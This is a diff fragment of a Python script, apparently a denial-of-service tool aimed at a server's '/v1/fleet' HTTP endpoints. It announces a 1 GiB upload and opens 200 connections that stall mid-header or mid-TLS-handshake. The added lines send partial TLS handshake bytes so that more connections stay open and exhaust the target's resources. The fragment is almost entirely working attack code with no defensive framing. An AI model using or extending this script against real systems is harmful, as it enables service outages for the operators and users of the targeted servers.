@@ -97,7 +97,7 @@ def send(head, block, most):
             answer = secure.recv(100)
     except OSError:
         pass
-    return [sent, answer.split(b"\\r\\n")[0].decode()]
+    return answer.split(b"\\r\\n")[0].decode()
 head = f"POST /v1/fleet/push-object HTTP/1.1\\r\\nHost: {sys.argv[1]}\\r\\n".encode()
 piece = bytes(1 << 16)
 known = send(head + b"Content-Length: 1073741824\\r\\n\\r\\n", piece, 1 << 30)
@@ -116,6 +116,8 @@ for number in range(200):
         if number % 2:
             raw = context.wrap_socket(raw, server_hostname=sys.argv[1])
             raw.sendall(b"POST /v1/fleet/pull-messages HTTP/1.1\\r\\nX-Slow: ")
+        else:
+            raw.sendall(bytes([22, 3, 1, 2, 0, 1]))  # the first bytes of a TLS handshake
         open_.append(raw)
     except OSError:
         pass
